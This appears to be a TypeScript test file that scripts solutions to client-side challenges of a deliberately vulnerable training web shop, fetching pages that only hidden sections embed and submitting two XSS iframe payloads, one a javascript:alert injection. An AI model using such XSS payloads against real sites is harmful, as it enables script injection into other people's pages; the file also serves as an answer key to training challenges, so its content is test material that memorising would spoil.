import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { reportFromBrowser } from '../../testing/browser-report'

const DOM_XSS = '<iframe src="javascript:alert(`xss`)">'
/** The bonus payload of the default config: the shop's jingle in an iframe. */
const XSS_BONUS =
  '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" src="https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500&auto_play=true&hide_related=false&show_comments=true&show_user=true&show_reposts=false&show_teaser=true"></iframe>'
const PRIVACY_POLICY_PROOF = '/we/may/also/instruct/you/to/refuse/all/reasonably/necessary/responsibility'

/** The tiny image only one page of the web app embeds, fetched the way that page does (its URL as Referer). */
const visitPage = (pixel: string, page: string) => (target: AttackTarget) =>
  request(target).get(`/assets/public/images/padding/${pixel}`).set('Referer', `http://localhost:3000${page}`)

export const clientSideAttacks = {
  scoreBoardChallenge: visitPage('1px.png', '/#/score-board'),
  adminSectionChallenge: visitPage('19px.png', '/#/administration'),
  web3SandboxChallenge: visitPage('11px.png', '/#/web3-sandbox'),
  tokenSaleChallenge: visitPage('56px.png', '/#/tokensale-ico-ea'),
  privacyPolicyChallenge: visitPage('81px.png', '/#/privacy-security/privacy-policy'),
  // the highlighted words of the privacy policy, joined with slashes
  privacyPolicyProofChallenge: (target) => request(target).get(PRIVACY_POLICY_PROOF),
  // the search page puts the query into the DOM unescaped and tells the shop what it showed
  localXssChallenge: (target) => reportFromBrowser(target, 'localXssChallenge', ['verifyLocalXssChallenge', DOM_XSS]),
  xssBonusChallenge: (target) => reportFromBrowser(target, 'xssBonusChallenge', ['verifyLocalXssChallenge', XSS_BONUS]),
  // "close all" on two or more notifications at once (the button appears with several)
  closeNotificationsChallenge: (target) =>
    reportFromBrowser(target, 'closeNotificationsChallenge', ['verifyCloseNotificationsChallenge', ['first', 'second']]),
} satisfies Attacks
